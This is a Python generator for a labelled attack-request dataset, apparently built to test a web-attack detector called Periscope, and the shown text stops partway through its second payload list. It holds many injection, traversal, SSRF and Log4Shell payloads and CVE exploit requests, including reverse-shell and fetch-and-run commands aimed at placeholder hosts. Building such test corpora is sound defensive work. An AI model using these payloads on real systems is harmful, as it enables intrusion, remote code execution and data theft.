#!/usr/bin/env python3
"""Generates attacks.jsonl: attack requests in the dataset format of shared/datasets/README.md,
written for Periscope from the author's knowledge (not copied from payload collections):
payloads per class placed in every request point with several encodings, and requests shaped
like real exploits of known CVEs. Deterministic (seeded).

Usage: python3 gen_attacks.py > attacks.jsonl
"""
import base64, json, random, sys
from urllib.parse import quote

R = random.Random(4471)

P = {
    "sqli": ["1' AND 1=CONVERT(int,(SELECT @@version))--", "' OR 1=1 LIMIT 1 -- -", "1 AND (SELECT 4523 FROM (SELECT(SLEEP(5)))abc)", "admin'/**/OR/**/'x'='x", "1;WAITFOR DELAY '0:0:7'--",
             "-5 UNION SELECT NULL,table_name,NULL FROM information_schema.tables#", "1' AND extractvalue(1,concat(0x7e,(SELECT user())))-- x", "' || (SELECT pg_sleep(4)) || '", "x') OR ('a'='a",
             "1 OR 2>1", "10 ORDER BY 7--", "1'; DROP TABLE sessions; --", "\" or \"\"=\"", "' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a", "1 AND ASCII(SUBSTR((SELECT banner FROM v$version WHERE rownum=1),1,1))>64",
             "1) UNION ALL SELECT username||':'||password FROM users--", "' GROUP BY id HAVING 1=1--", "';EXEC master..xp_cmdshell 'ping 10.0.0.9'--", "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))", "%' AND 8310=8310 AND '%'='"],
    "xss": ["<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<img src=1 onerror=\"fetch('//x.example/'+document.cookie)\">", "\"><iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">", "<details open ontoggle=confirm(2)>",
            "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "'><script src=//x.example/h.js></script>", "<body/onpageshow=alert(1)>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<input autofocus onfocus=top['al'+'ert'](1)>", "\";alert(String.fromCharCode(88,83,83));//", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
            "<video><source onerror=\"eval(atob('YWxlcnQoMSk='))\">", "<marquee onstart=prompt(document.domain)>", "{{constructor.constructor('alert(1)')()}}", "<form action=javascript:alert(1)><input type=submit>"],
    "rce": ["; /bin/cat /etc/shadow", "| nc -e /bin/sh 10.0.0.5 4444", "`wget -q -O- http://198.51.100.7/x|sh`", "$(whoami)", "&& curl http://198.51.100.7/`id`", "; powershell -enc SQBFAFgA", "|| ping -c 9 127.0.0.1 ||",
            "\nuname -a\n", "a;bash -i >& /dev/tcp/198.51.100.7/9001 0>&1", "127.0.0.1%0aid", "x|c''at${IFS}/e??/p?ss?d", "; certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe", "<?php system($_GET['c']); ?>",
            "__import__('os').popen('id').read()", "${@print(md5(31337))}", "; sleep 10 #"],
    "ptrav": ["../../../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fshadow", "....//....//....//etc/hosts", "..\\..\\..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2f%2e%2e%2fproc%2fself%2fenviron",
              "/var/www/../../etc/passwd%00.png", "php://filter/convert.base64-encode/resource=index.php", "file:///etc/passwd", "..%c0%af..%c0%af..%c0%afetc/passwd", "../../WEB-INF/web.xml", "C:\\boot.ini", "/proc/self/cmdline"],
    "ssrf": ["http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://[::1]:22/", "http://0x7f.0x0.0x0.0x1/admin", "gopher://localhost:25/_HELO%20x", "http://metadata.google.internal/computeMetadata/v1/",
             "http://127.1:8080/actuator/env", "dict://127.0.0.1:11211/stats", "http://017700000001/", "http://localhost.localtest.me/", "http://10.0.0.1:2375/containers/json"],
    "xxe": ['<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/hostname">]><d>&x;</d>', '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://198.51.100.7/e.dtd"> %p;]><r/>',
            '<?xml version="1.0"?><!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY bar SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd">]><foo>&bar;</foo>',
            '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></x>'],
    "ssti": ["{{''.__class__.__mro__[1].__subclasses__()}}", "${7*191}", "<%= `id` %>", "#{7*7}", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
             "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}", "*{T(java.lang.System).getenv()}", "{% import os %}{{ os.system('id') }}", "{{7*'7'}}", "@(7*7)", "{php}echo `id`;{/php}"],
    "nosqli": ['{"username": {"$ne": null}, "password": {"$ne": null}}', '{"$where": "this.password.match(/^a/)"}', "admin' || '1'=='1", '{"user": {"$regex": "^adm"}, "pass": {"$gt": ""}}', "'; return true; var x='"],
    "ldapi": ["admin)(&)", "*)(uid=*))(|(uid=*", "*)(|(mail=*)", "admin)(|(password=*))", "x*)(objectClass=*"],
    "xpathi": ["' or count(/*)=1 or 'x'='y", "') or name(/*[1])='users' or ('a'='b", "x' or string-length(//user[1]/password)>0 or 'a'='b", "'] | //* | //*['"],
    "crlf": ["%0d%0aLocation:%20http://evil.example/", "foo%0D%0ASet-Cookie:%20admin=1", "%0d%0a%0d%0a<script>alert(1)</script>", "x\r\nX-Injected: 1", "%E5%98%8A%E5%98%8DSet-Cookie:%20x=y"],
    "log4shell": ["${jndi:ldap://198.51.100.7:1389/Exploit}", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.7/o}", "${jndi:dns://${env:HOSTNAME}.x.example}", "${${upper:j}ndi:ldaps://198.51.100.7/a}", "${j${k8s:k5:-ND}i:ldap://198.51.100.7/x}"],
    "mail": ["victim@example.com\r\nBcc: list@spam.example", "x\r\nMAIL FROM:<a@b.example>\r\nRCPT TO:<c@d.example>\r\nDATA\r\n", "a\r\nA1 LOGIN admin pass\r\nA2 SELECT INBOX", "me@example.com%0ACc:%20others@spam.example"],
    "ssi": ['<!--#include virtual="/etc/passwd"-->', '<!--#echo var="DOCUMENT_ROOT"-->', '<!--#exec cmd="id"-->', '<!--#printenv -->'],
    "deserialization": ["rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlclXK9Q8Vy36lAgACTAAMbWVtYmVyVmFsdWVz", 'O:17:"Monolog\\Handler":1:{s:6:"stream";s:10:"/tmp/x.php";}', "gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
                        '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://198.51.100.7/x","autoCommit":true}', "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://198.51.100.7/\"]]]]",
                        '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}'],
    "open_redirect": ["//evil.example/", "/\\evil.example", "https://trusted.example@evil.example/", "https:evil.example", "\\\\evil.example"],
}

HOST = "target.test"

def enc(v, how):
    if how == "url":
        return quote(v, safe="")
    if how == "double":
        return quote(quote(v, safe=""), safe="")
    if how == "base64":
        return base64.b64encode(v.encode()).decode()
    if how == "unicode":
        return "".join(f"%u{ord(c):04x}" if not c.isalnum() else c for c in v)
    return v

def case(i, cls, payload, method, target, headers, body=b"", placement="", encoder=""):
    return {"id": f"own-attack-{i:05d}", "set": "own-attacks", "file": "gen_attacks.py", "class": cls, "label": "attack", "encoder": encoder, "placeholder": placement, "payload": payload,
            "method": method, "target": target, "headers": [["Host", HOST]] + headers, "body_b64": base64.b64encode(body).decode()}

UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
out = []
i = 0
for cls, pays in P.items():
    for p in pays:
        places = ["query", "form", "json", "multipart", "header", "cookie", "path", "graphql"]
        if cls == "open_redirect":
            places = ["redirect"]
        if cls == "xxe":
            places = ["xml", "multipart-file"]
        for pl in R.sample(places, min(len(places), 3)):
            how = R.choice(["url", "url", "url", "double", "base64", "unicode"]) if pl in ("query", "path", "redirect") else "plain"
            name = R.choice(["id", "q", "search", "name", "file", "page", "cmd", "host", "email", "template", "user", "url", "data"])
            if pl == "query":
                c = case(i, cls, p, "GET", f"/api/items?{name}={enc(p, how)}&lang=en", [["User-Agent", UA]], placement="URLParam", encoder=how)
            elif pl == "redirect":
                c = case(i, cls, p, "GET", f"/login?next={enc(p, how)}", [["User-Agent", UA]], placement="URLParam", encoder=how)
            elif pl == "form":
                b = f"{name}={quote(p, safe='')}&submit=Send".encode()
                c = case(i, cls, p, "POST", "/contact", [["Content-Type", "application/x-www-form-urlencoded"], ["Content-Length", str(len(b))]], b, "HTMLForm", "url")
            elif pl == "json":
                b = json.dumps({"filter": {"field": name, "value": p}, "page": 1}).encode()
                c = case(i, cls, p, "POST", "/api/v2/search", [["Content-Type", "application/json"], ["Content-Length", str(len(b))]], b, "JSONRequest", "plain")
            elif pl == "multipart":
                b = f"--xYz\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{p}\r\n--xYz--\r\n".encode()
                c = case(i, cls, p, "POST", "/upload", [["Content-Type", "multipart/form-data; boundary=xYz"], ["Content-Length", str(len(b))]], b, "HTMLMultipartForm", "plain")
            elif pl == "multipart-file":
                b = f"--xYz\r\nContent-Disposition: form-data; name=\"doc\"; filename=\"a.xml\"\r\nContent-Type: text/xml\r\n\r\n{p}\r\n--xYz--\r\n".encode()
                c = case(i, cls, p, "POST", "/import", [["Content-Type", "multipart/form-data; boundary=xYz"], ["Content-Length", str(len(b))]], b, "MultipartFile", "plain")
            elif pl == "header":
                hn = R.choice(["User-Agent", "Referer", "X-Forwarded-For", "X-Api-Version", "Accept-Language"])
                c = case(i, cls, p, "GET", "/", [[hn, p.replace("\r", "%0d").replace("\n", "%0a")]], placement="Header", encoder="plain")
            elif pl == "cookie":
                c = case(i, cls, p, "GET", "/account", [["Cookie", f"theme=dark; {name}={quote(p, safe='')}"]], placement="Cookie", encoder="url")
            elif pl == "path":
                c = case(i, cls, p, "GET", f"/files/{enc(p, how)}/download", [["User-Agent", UA]], placement="URLPath", encoder=how)
            elif pl == "graphql":
                b = json.dumps({"query": "query Q($v: String!) { search(term: $v) { id } }", "variables": {"v": p}}).encode()
                c = case(i, cls, p, "POST", "/graphql", [["Content-Type", "application/json"], ["Content-Length", str(len(b))]], b, "GraphQL", "plain")
            else:
                b = p.encode()
                c = case(i, cls, p, "POST", "/api/import", [["Content-Type", "application/xml"], ["Content-Length", str(len(b))]], b, "XMLBody", "plain")
            out.append(c)
            i += 1

# Requests shaped like real exploits of known CVEs (written from the advisories' descriptions).
CVE = [
    ("CVE-2021-44228 log4shell", "GET", "/", [["User-Agent", "${jndi:ldap://198.51.100.7:1389/a}"], ["X-Api-Version", "${jndi:ldap://198.51.100.7/b}"]], b""),
    ("CVE-2021-41773 apache path traversal", "GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", [], b""),
    ("CVE-2021-42013 apache double-encoded traversal", "GET", "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd", [], b""),
    ("CVE-2014-6271 shellshock", "GET", "/cgi-bin/status", [["User-Agent", "() { :; }; echo; /bin/bash -c 'cat /etc/passwd'"]], b""),
    ("CVE-2017-5638 struts2 content-type ognl", "POST", "/struts2-showcase/index.action", [["Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):1).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}"]], b""),
    ("CVE-2022-26134 confluence ognl", "GET", "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/", [], b""),
    ("CVE-2022-22965 spring4shell", "POST", "/app/greeting", [["Content-Type", "application/x-www-form-urlencoded"]], b"class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT"),
    ("CVE-2022-22963 spring cloud function spel", "POST", "/functionRouter", [["spring.cloud.function.routing-expression", "T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/pwned\")"], ["Content-Type", "text/plain"]], b"x"),
    ("CVE-2019-19781 citrix traversal", "POST", "/vpn/../vpns/portal/scripts/newbm.pl", [["NSC_USER", "../../../netscaler/portal/templates/x"], ["NSC_NONCE", "n"], ["Content-Type", "application/x-www-form-urlencoded"]], b"url=http://example.com&title=[%25+template.new({'BLOCK'='print+`id`'})+%25]&desc=x&UI_inuse=RfWeb"),
    ("CVE-2018-13379 fortinet traversal", "GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", [], b""),
    ("CVE-2019-11510 pulse secure traversal", "GET", "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/", [], b""),
    ("CVE-2021-43798 grafana traversal", "GET", "/public/plugins/alertlist/../../../../../../../../etc/passwd", [], b""),
    ("CVE-2020-14882 weblogic console", "GET", "/console/css/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel=&handle=com.tangosol.coherence.mvel2.sh.ShellSession(%22java.lang.Runtime.getRuntime().exec(%27id%27);%22)", [], b""),
    ("CVE-2017-10271 weblogic xmldecoder", "POST", "/wls-wsat/CoordinatorPortType", [["Content-Type", "text/xml"]], b'<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/sh</string></void><void index="1"><string>-c</string></void><void index="2"><string>id</string></void></array><void method="start"/></object></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>'),
    ("CVE-2018-7600 drupalgeddon2", "POST", "/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax", [["Content-Type", "application/x-www-form-urlencoded"]], b"form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id"),
    ("CVE-2018-20062 thinkphp rce", "GET", "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id", [], b""),
    ("CVE-2017-9841 phpunit eval-stdin", "POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", [["Content-Type", "text/plain"]], b"<?php echo md5('phpunit'); ?>"),
    ("CVE-2019-16759 vbulletin widget", "POST", "/index.php?routestring=ajax/render/widget_php", [["Content-Type", "application/x-www-form-urlencoded"]], b"widgetConfig%5Bcode%5D=echo+shell_exec('id')%3B+exit%3B"),
    ("CVE-2019-15107 webmin password_change", "POST", "/password_change.cgi", [["Referer", "https://target.test/session_login.cgi"], ["Content-Type", "application/x-www-form-urlencoded"]], b"user=root&pam=&expired=2&old=x|id&new1=a&new2=a"),
    ("CVE-2018-10562 gpon router", "POST", "/GponForm/diag_Form?images/", [["Content-Type", "application/x-www-form-urlencoded"]], b"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://198.51.100.7/m+-O+/tmp/m`;sh+/tmp/m&ipv=0"),
    ("CVE-2021-36260 hikvision", "PUT", "/SDK/webLanguage", [["Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"]], b"<?xml version=\"1.0\" encoding=\"UTF-8\"?><language>$(id>webLib/x)</language>"),
    ("CVE-2021-3129 laravel ignition", "POST", "/_ignition/execute-solution", [["Content-Type", "application/json"]], b'{"solution":"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution","parameters":{"variableName":"x","viewFile":"php://filter/write=convert.base64-decode/resource=../storage/logs/laravel.log"}}'),
    ("CVE-2022-42889 text4shell", "GET", "/text4shell/attack?search=%24%7Bscript%3Ajavascript%3Ajava.lang.Runtime.getRuntime%28%29.exec%28%27id%27%29%7D", [], b""),
    ("CVE-2019-7609 kibana timelion", "POST", "/api/timelion/run", [["Content-Type", "application/json"], ["kbn-xsrf", "true"]], b'{"sheet":[".es(*).props(label.__proto__.env.AAAA=\'require(\\"child_process\\").exec(\\"id\\");process.exit()//\')"],"time":{"from":"now-15m","to":"now","mode":"quick","interval":"10s","timezone":"UTC"}}'),
    ("CVE-2018-1273 spring data spel", "POST", "/users?page=&size=5", [["Content-Type", "application/x-www-form-urlencoded"]], b"username[#this.getClass().forName('java.lang.Runtime').getRuntime().exec('id')]=x&password=x&repeatedPassword=x"),
    ("CVE-2020-10199 nexus el", "POST", "/service/rest/beta/repositories/go/group", [["Content-Type", "application/json"]], b'{"name":"internal","online":true,"storage":{"blobStoreName":"default","strictContentTypeValidation":true},"group":{"memberNames":["$\\\\A{\'\'.getClass().forName(\'java.lang.Runtime\').getMethods()[6].invoke(null).exec(\'id\')}"]}}'),
    ("CVE-2023-22527 confluence template", "POST", "/template/aui/text-inline.vm", [["Content-Type", "application/x-www-form-urlencoded"]], b"label=\\u0027%2b#request\\u005b\\u0027.KEY_velocity.struts2.context\\u0027\\u005d.internalGet(\\u0027ognl\\u0027).findValue(#parameters.x,{})%2b\\u0027&x=@org.apache.struts2.ServletActionContext@getResponse().setHeader('X',(new+freemarker.template.utility.Execute()).exec({'id'}))"),
    ("CVE-2024-3400 pan-os cookie traversal", "POST", "/ssl-vpn/hipreport.esp", [["Cookie", "SESSID=/../../../var/appweb/sslvpndocs/global-protect/portal/images/x.txt"], ["Content-Type", "application/x-www-form-urlencoded"]], b"user=a"),
    ("CVE-2019-5418 rails accept traversal", "GET", "/robots", [["Accept", "../../../../../../../../etc/passwd{{"]], b""),
    ("CVE-2023-46805 ivanti traversal", "GET", "/api/v1/totp/user-backup-code/../../system/system-information", [], b""),
    ("CVE-2020-3452 cisco asa traversal", "GET", "/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../", [], b""),
    ("CVE-2019-11043 php-fpm newline", "GET", "/index.php/PHP%0Ais_the_shittiest_lang.php?a=" + "Q" * 40, [["D-Pisos", "8=D"], ["Ebut", "mamku tvoyu"]], b""),
    ("CVE-2021-26084 confluence ognl param", "POST", "/pages/createpage-entervariables.action", [["Content-Type", "application/x-www-form-urlencoded"]], b"queryString=%5cu0027%2b%7bClass.forName%28%5cu0027javax.script.ScriptEngineManager%5cu0027%29.newInstance%28%29.getEngineByName%28%5cu0027JavaScript%5cu0027%29.%5cu0065val%28%5cu0027var+isWin+%3d+java.lang.System.getProperty%28%5cu0022os.name%5cu0022%29%5cu0027%29%7d%2b%5cu0027"),
    ("CVE-2017-12615 tomcat put jsp", "PUT", "/shell.jsp/", [["Content-Type", "application/octet-stream"]], b'<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>'),
    ("CVE-2020-5902 f5 tmui traversal", "GET", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd", [], b""),
    ("CVE-2021-22986 f5 icontrol rce", "POST", "/mgmt/tm/util/bash", [["Authorization", "Basic YWRtaW46"], ["X-F5-Auth-Token", ""], ["Content-Type", "application/json"]], b'{"command":"run","utilCmdArgs":"-c id"}'),
    ("CVE-2022-1388 f5 auth bypass", "POST", "/mgmt/tm/util/bash", [["Connection", "keep-alive, X-F5-Auth-Token"], ["X-F5-Auth-Token", "a"], ["Authorization", "Basic YWRtaW46"], ["Content-Type", "application/json"]], b'{"command":"run","utilCmdArgs":"-c \'cat /etc/passwd\'"}'),
    ("CVE-2023-34362 moveit sqli", "POST", "/moveitisapi/moveitisapi.dll?action=m2", [["X-siLock-Transaction", "folder_add_by_path"], ["X-siLock-Step1", "x';UPDATE activesessions SET UserID='sysadmin' WHERE SessionID='abc';--"]], b""),
    ("CVE-2021-21985 vcenter", "POST", "/ui/h5-vsan/rest/proxy/service/&vsanQueryUtil_setDataService/setTargetObject", [["Content-Type", "application/json"]], b'{"methodInput":[{"type":"ClassPathXmlApplicationContext","args":["http://198.51.100.7/x.xml"]}]}'),
    ("CVE-2015-1427 elasticsearch groovy", "POST", "/_search?pretty", [["Content-Type", "application/json"]], b'{"size":1,"script_fields":{"x":{"script":"java.lang.Math.class.forName(\\"java.lang.Runtime\\").getRuntime().exec(\\"id\\").getText()"}}}'),
    ("CVE-2021-25646 druid javascript", "POST", "/druid/indexer/v1/sampler", [["Content-Type", "application/json"]], b'{"type":"index","spec":{"dataSchema":{"transformSpec":{"filter":{"type":"javascript","function":"function(value){return java.lang.Runtime.getRuntime().exec(\'id\')}","dimension":"added","":{"enabled":"true"}}}}}}'),
    ("CVE-2024-4577 php-cgi argument injection", "POST", "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", [["Content-Type", "application/x-www-form-urlencoded"]], b"<?php system('whoami'); ?>"),
    ("CVE-2023-50164 struts upload traversal", "POST", "/upload.action", [["Content-Type", "multipart/form-data; boundary=B"]], b'--B\r\nContent-Disposition: form-data; name="Upload"; filename="x.jsp"\r\nContent-Type: text/plain\r\n\r\n<% out.println(1); %>\r\n--B\r\nContent-Disposition: form-data; name="uploadFileName"\r\n\r\n../../../../webapps/ROOT/x.jsp\r\n--B--\r\n'),
    ("CVE-2021-21972 vcenter upload traversal", "POST", "/ui/vropspluginui/rest/services/uploadova", [["Content-Type", "multipart/form-data; boundary=B"]], b'--B\r\nContent-Disposition: form-data; name="uploadFile"; filename="../../../../../../tmp/x.jsp"\r\nContent-Type: application/octet-stream\r\n\r\nx\r\n--B--\r\n'),
    ("request smuggling CL.TE", "POST", "/", [["Content-Length", "13"], ["Transfer-Encoding", "chunked"]], b"0\r\n\r\nSMUGGLED"),
    ("request smuggling TE obfuscation", "POST", "/", [["Content-Length", "4"], ["Transfer-Encoding", "xchunked"]], b"5c\r\n"),
    ("sqlmap scan", "GET", "/item.php?id=1%20AND%209999%3D9999", [["User-Agent", "sqlmap/1.8.2#stable (https://sqlmap.org)"]], b""),
    ("nuclei probe", "GET", "/.git/config", [["User-Agent", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"]], b""),
]
for name, m, t, h, b in CVE:
    out.append({"id": f"own-attack-{i:05d}", "set": "own-cve", "file": "gen_attacks.py", "class": name, "label": "attack", "encoder": "", "placeholder": "exploit", "payload": "",
                "method": m, "target": t, "headers": [["Host", HOST]] + h + ([["Content-Length", str(len(b))]] if b and not any(k.lower() == "content-length" for k, _ in h) else []), "body_b64": base64.b64encode(b).decode()})
    i += 1

# ---- Second set (2026-12): more payload shapes per class and more placements and encodings, each
# payload written for this file from knowledge of the class (evasions: mixed case, comments, tabs and
# newlines for spaces, entity and escape encodings), and more requests shaped like real CVE exploits.
# A separate generator so the cases above keep their ids and contents.
R2 = random.Random(20261205)
P2 = {
    "sqli": ["1'/**/UnIoN/**/SeLeCt/**/1,2,3--+", "1\tOR\t1=1", "admin'--", "' OR 'a'='a' /*", "-1' UNION SELECT 1,user(),3-- -", "') or ('1'='1",
             "1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(database(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -",
             "1;SELECT pg_sleep(5)--", "' OR EXISTS(SELECT * FROM users)--", "1' ORDER BY 3--+", "1 and sleep(5)", "admin' #", "\" or 1=1 --", "1) or (1=1",
             "1 UNION/*!50000SELECT*/ 1,2", "1'||(SELECT 'x' FROM dual)||'", "'; exec xp_cmdshell('dir')--", "1 and 1 in (select @@version)", "1%0aAND%0a1=1",
             "x' AnD 1=0 UnIoN aLl SeLeCt table_name,2 FrOm information_schema.tables WHERE 'a'='a", "1' AND 3358=3358 AND 'xyz'='xyz", "1 OR 1=1#"],
    "xss": ["<img src=x onerror=alert(1)>", "<svg onload=alert`1`>", "<IMG SRC=\"jav\tascript:alert('XSS');\">", "<iframe src=javascript:alert(1)>", "<a href=javascript&colon;alert(1)>x</a>",
            "\"onmouseover=\"alert(1)", "' autofocus onfocus='alert(1)", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<svg><script>alert&#40;1&#41;</script>", "</script><script>alert(1)</script>",
            "<img src=x:alert(alt) onerror=eval(src) alt=0>", "<x onclick=alert(1)>click", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "<base href=\"javascript:alert(1)//\">",
            "<div style=\"background:url(javascript:alert(1))\">", "<svg/onload=import('//x.example')>", "<ImG sRc=x OnErRoR=confirm(1)>", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>"],
    "rce": ["; id", "| id", "`id`", "$(id)", "& whoami", "; ls -la /", "a && id", "%0aid", "; nslookup x.example", ";curl x.example/s.sh|bash", "|/usr/bin/id", "; ping -n 5 127.0.0.1",
            "& dir c:\\", "| type C:\\Windows\\win.ini", ";{cat,/etc/passwd}", "a;wget${IFS}http://x.example/s", ";/???/??t /???/p??s??", "$(curl -s x.example|sh)",
            "; python -c 'import pty;pty.spawn(\"/bin/sh\")'", "| powershell -c Get-Process", "&& rm -rf /tmp/x", "1;sleep${IFS}9", "|| id #", "-c id", "-c 'uname -a'"],
    "ptrav": ["../../../etc/passwd", "..%252f..%252f..%252fetc%252fpasswd", "%2e%2e%5c%2e%2e%5cwindows%5cwin.ini", "..\\/..\\/..\\/etc/passwd", "/..;/..;/etc/passwd", "/etc/shadow",
              "..%u2216..%u2216windows%u2216win.ini", "file:///c:/windows/win.ini", "../../../../var/log/apache2/access.log", "/proc/self/environ", "..././..././etc/passwd",
              "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "../../.ssh/id_rsa", "php://filter/read=string.rot13/resource=config.php", "zip://uploads/x.zip#shell.php", "../../../../boot.ini", "../"],
    "ssrf": ["http://127.0.0.1:6379/", "http://localhost/admin", "http://[0:0:0:0:0:ffff:127.0.0.1]/", "http://2130706433/", "http://0177.0.0.1/", "http://169.254.169.254/computeMetadata/v1/",
             "http://100.100.100.200/latest/meta-data/", "http://192.168.0.1/", "http://127.0.0.1.nip.io/", "gopher://127.0.0.1:6379/_FLUSHALL", "http://metadata/computeMetadata/v1/instance/",
             "http://[::ffff:a9fe:a9fe]/latest/", "http://0/", "http://localhost:2375/containers/json"],
    "xxe": ['<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % e SYSTEM "http://198.51.100.7/x.dtd"> %e; %p;]><r>&exfil;</r>', '<!DOCTYPE x SYSTEM "http://198.51.100.7/evil.dtd"><x/>',
            '<?xml version="1.0"?><!DOCTYPE data [<!ENTITY f SYSTEM "expect://id">]><data>&f;</data>', '<svg xmlns="http://www.w3.org/2000/svg"><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]><text>&x;</text></svg>',
            '<?xml version="1.0"?><r xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="http://127.0.0.1:8080/s.xsd"/>',
            '<?xml version="1.0"?><xsd:schema xmlns:xsd="http://www.w3.org/2001/XMLSchema"><xsd:import namespace="urn:x" schemaLocation="http://198.51.100.7/x.xsd"/></xsd:schema>'],
    "ssti": ["{{7*7}}", "${{7*7}}", "{{config.items()}}", "{{self.__init__.__globals__}}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
             "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))", "{{ ''|attr('__class__') }}", "[[${7*7}]]", "{{cycler.__init__.__globals__.os.popen('id').read()}}",
             "#{T(java.lang.Runtime).getRuntime().exec('id')}", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"],
    "nosqli": ['{"$gt": ""}', '{"username": {"$in": ["admin", "root"]}, "password": {"$ne": "x"}}', "';sleep(5000);'", '{"$where": "sleep(5000)"}', '{"$or": [{"user": "admin"}, {"1": "1"}]}'],
    "ldapi": ["*)(&", "admin*)((|userPassword=*)", "(cn:dn:=admin)", "cn:1.2.840.113556.1.4.803:=2", "*)(objectClass=*))(&(objectClass=void", "x)(!(cn=*))", "sn:caseExactMatch:=Smith", "uid:dn:2.5.13.5:=admin"],
    "xpathi": ["' or '1'='1", "' or 1=1 or ''='", "x' or name()='username' or 'x'='y", "') or true() or ('", "1 or count(//user)>0"],
    "crlf": ["%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK", "\r\nSet-Cookie: s=1", "%0aLocation: //x.example", "%23%0d%0aSet-Cookie:x=1", "%u000d%u000aSet-Cookie:x=1"],
    "log4shell": ["${jndi:rmi://x.example/a}", "${${lower:jndi}:${lower:rmi}://x.example/a}", "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x.example/a}",
                  "${jndi:${lower:l}${lower:d}a${lower:p}://x.example/a}", "${${::-j}ndi:dns://x.example}", "${jndi:ldap://127.0.0.1#x.example:1389/a}", "${${upper:${lower:j}}ndi:ldap://x.example/a}",
